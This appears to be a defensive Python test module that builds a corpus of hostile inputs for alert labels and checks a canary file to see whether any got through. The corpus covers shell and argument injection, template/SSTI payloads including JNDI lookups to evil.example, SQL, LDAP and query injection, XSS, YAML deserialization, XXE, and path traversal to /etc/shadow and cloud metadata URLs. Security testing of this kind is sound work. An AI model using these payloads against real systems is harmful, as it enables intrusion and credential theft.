"""Texts that would become syntax somewhere if anyone pasted them: what an alert's labels may hold.

`corpus(canary)` gives all of them; those that run a command or write a file would make `canary` (or a file beside it
whose name begins with it), so that a test can see whether one got through. `every_kind` names what they aim at.
"""

from collections.abc import Mapping, Sequence
from pathlib import Path

# P is `touch CANARY`, C the path of the canary.
_SHELL = (
    "; P", "| P", "|| P", "&& P", "& P", "`P`", "$(P)", "'; P; '", '"; P; "', "\nP\n", "\r\nP", "<(P)", ">(P)", "> C",
    ">> C", ">|C", "2>C", "&>C", ";P;", "\\; P", "'$(P)'", '"$(P)"', "{touch,C}", "touch${IFS}C", ";touch${IFS}C",
    "$'\\x3btouch C'", "!!; P", "%0aP", "#\nP", "*; P", "~; P", "$((P))", "${x:=$(P)}", "${x@P}", "() { :;}; P",
    "-- ; P", "\\\nP", "';P #", '";P #', ");P", "};P", "\t;P", "$(P;echo a)", "a`P`b", "\\`P\\`", "$\\(P)",
    "'\"'\"'; P; '\"'\"'", "%3BP", "&amp;P", "%60P%60", "1;P;1", "|P|", "||P||", "&&P&&", "$(<C)", "exec P",
    "eval 'P'", "sh -c 'P'", "sudo P",
)  # fmt: skip
_OPTIONS = (
    "-oProxyCommand=P", "-o ProxyCommand=P", "--kubeconfig=/x", "-rf", "--", "-", "--help", "--version", "-eP", "-cP",
    "--file=/etc/shadow", "-f/etc/shadow", "--rsh=P", "--vacuum-size=1", "--vacuum-time=1s", "--rotate", "--root=/",
    "--property=Environment", "-H evil.example", "-M evil", "--host=evil.example", "--force", "--no-block",
    "--signal=KILL", "--output=C", "-oC", "-o C", "--eval=P", "--checkpoint-action=exec=P",
    "--use-compress-program=P", "-exec P ;", "-delete", "--post-file=/etc/shadow", "-n", "--since=@0",
    "--cursor-file=C", "--file=C", "--directory=/", "-t", "-s", "-0", "-1", "+x", "@/etc/shadow",
    "--extra-vars=@/etc/shadow", "-e @C", "--become", "--limit=all", "--connection=local", "--module-path=C",
    "--inventory=C", "-i,", "--listen-host=::", "--color=always\nP",
)  # fmt: skip
_CONTROL = (
    "\n", "\r", "\r\n", "\t", "\x00", "a\x00b", "C\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1a", "\x1b[2J",
    "\x1b]0;P\x07", "\x1b]52;c;cm0=\x07", "\x1bP+q544e\x1b\\", "\x7f", "\x85", "\x9b31m", "a\nb\nc", "web\n", "\nweb",
    " ", "", "  web", "web  ", "\u00a0web",
)  # fmt: skip
_UNICODE = (
    "\u2028P", "\u2029P", "\u200bweb", "web\u200d", "\u202eweb", "\u2066web", "\ufeffweb", "\ud800", "web\udfff",
    "\U000e0041", "e\u0301", "\ufb01", "\uff1b\uff50", "\u037e P", "\uff5c P", "\u2024\u2024/", "\uff0e\uff0e/",
    "\u2018; P\u2019", "\uff04\uff08P\uff09", "\u0430dmin", "we\u0062\u0336", "\u1e9e", "\u0130", "\u0131", "\uffff",
    "\U0010ffff", "\u2215etc\u2215shadow", "\uff0detc", "\u2010oP", "\u2212rf", "\U0001f525", "a" + "\u0300" * 200,
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{7*7}}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ lookup('pipe', 'P') }}",
    "{{ query('pipe', 'P') }}", "{{ lookup('file', '/etc/shadow') }}", "{{ lookup('env', 'HOME') }}",
    "{{ lookup('ansible.builtin.pipe', 'P') }}", "{{ cycler.__init__.__globals__.os.popen('P').read() }}",
    "{% for x in [1] %}{{ lookup('pipe', 'P') }}{% endfor %}", "{% include '/etc/passwd' %}", "{# no #}", "{{", "}}",
    "{%", "{{ inputs }}", "{{ steps.look.result }}", "{{ self }}", "{{ config }}", "{{ vars }}", "{{ hostvars }}",
    "{{ ansible_env }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<%= `P` %>", "${jndi:ldap://evil.example/x}", "%(x)s",
    "%s%s%n", "{0.__class__}", "{host}", "{1}", "{2}", "$1", "$x", "$instance", "${instance}", "[[instance]]",
    "!unsafe x", "!vault |", "!!python/object/apply:os.system ['P']", "{'__ansible_unsafe': 'x'}",
)  # fmt: skip
_QUERIES = (
    '"} or vector(1)', "'} or vector(1)", '"} or on() vector(1) #', ".*", ".+", "a|b", "(?i)web", "[a-z]+", "(a+)+$",
    '\\"', "\\", "web\\", "# web", 'up{job="x"}', '" | delete', "] | outputlookup x", '" OR *', "* | outputlookup C",
    "[ search * | outputcsv C ]", "| makeresults", "`macro`", "' OR 1=1--", "'; DROP TABLE incidents;--",
    "1) OR (1=1", '" OR ""="', "*)(uid=*))(|(uid=*", "*", "%", "_", "\\2a", "x' UNION SELECT 1--", "$where",
    '{"$gt": ""}', "\\E.*\\Q",
)  # fmt: skip
_DOCUMENTS = (
    '"', "'", '","x":"y', '"}', '{"a": 1}', "[1]", "null", "true", "~", "1e999", "NaN", "0x10", "010", "\n- name: x",
    "- a", "a: b", "a: b\nc: d", "&a x", "*a", "<<: *a", "? x", "| x", "> x", "%YAML 1.1", "---\n", "...\n",
    "key: !!x y", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "javascript:alert(1)", "<!channel>",
    "<@U123>", "<http://evil.example|grafana>", "=cmd|'/c calc'!A1", "@SUM(1)", "]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "x\r\nSet-Cookie: a=b", "x\nBcc: evil@example.com", "&lt;",
    "%0d%0aX: y", "\\u0000", "\\x00", "{}", "[]",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "/etc/passwd", "/etc/shadow", "C/../../etc/shadow", "..", ".", "/", "//", "~root",
    "~/.ssh/id", "/proc/self/environ", "/dev/stdin", "/dev/tcp/evil.example/80", "file:///etc/passwd",
    "http://169.254.169.254/", "\\\\evil.example\\x", "C:\\x", "a/b", "a/../b", "./x", "..%2f..%2fetc",
    "/var/log/../../etc/shadow", "*/passwd", "/etc/sh?dow", "/etc/[s]hadow", "/etc/{passwd,shadow}", "x" * 300,
    "A" * 4096, "/" + "a/" * 2000,
)  # fmt: skip
_NAMES = (
    "web*", "web?", "we[b]", "*.service", "reboot.target", "poweroff.target", "emergency.target",
    "ctrl-alt-del.target", "systemd-reboot.service", "web.service db.service", "web,db", "all", "!all", "web:db",
    "web[0:9]", "~web", "@web", "localhost", "127.0.0.1", "root@web", "web:22", "[::1]", "-web", "web@x", "web@$(P)",
    "web-1; P", "0", "1", "-1", "$$",
)  # fmt: skip

KINDS: Mapping[str, Sequence[str]] = {
    "shell": _SHELL + tuple(f"web-1{text}" for text in _SHELL),
    "options": _OPTIONS,
    "control": _CONTROL,
    "unicode": _UNICODE,
    "templates": _TEMPLATES,
    "queries": _QUERIES,
    "documents": _DOCUMENTS,
    "paths": _PATHS,
    "names": _NAMES,
}
"""What each text aims at, with P and C still in it."""


def corpus(canary: Path) -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_filled(text, canary) for texts in KINDS.values() for text in texts))


def _filled(text: str, canary: Path) -> str:
    return text.replace("P", f"touch {canary}").replace("C", str(canary)) if len(text) < 300 else text


def got_through(canary: Path) -> list[Path]:
    """The canary, and what was made beside it; a test may make nothing whose name begins so."""
    return sorted(canary.parent.glob(f"{canary.name}*"))
